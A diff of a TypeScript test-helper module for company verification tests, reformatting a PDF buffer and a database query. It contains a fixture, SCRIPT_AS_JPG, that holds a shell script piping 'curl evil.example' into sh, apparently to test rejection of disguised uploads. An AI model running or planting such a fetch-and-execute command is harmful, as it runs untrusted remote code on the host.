@@ -5,7 +5,9 @@ import type { Actor } from "#server/modules/accounts/index.ts";
 /** Small builders for the verification tests (users, companies, members, files). */
 let serial = 0;
 
-export const PDF = Buffer.from("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
+export const PDF = Buffer.from(
+  "%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
+);
 export const SCRIPT_AS_JPG = Buffer.from("#!/bin/sh\ncurl evil.example | sh\n");
 
 export async function user(db: Db, roles: Role[] = ["supplier"], lang = "en"): Promise<Actor> {
@@ -46,6 +48,11 @@ export async function member(db: Db, companyId: number, role: TeamRole = "owner"
 
 export const isVerified = async (db: Db, companyId: number) =>
   Boolean(
-    (await db.selectFrom("companies").select("is_verified").where("id", "=", companyId).executeTakeFirstOrThrow())
-      .is_verified,
+    (
+      await db
+        .selectFrom("companies")
+        .select("is_verified")
+        .where("id", "=", companyId)
+        .executeTakeFirstOrThrow()
+    ).is_verified,
   );
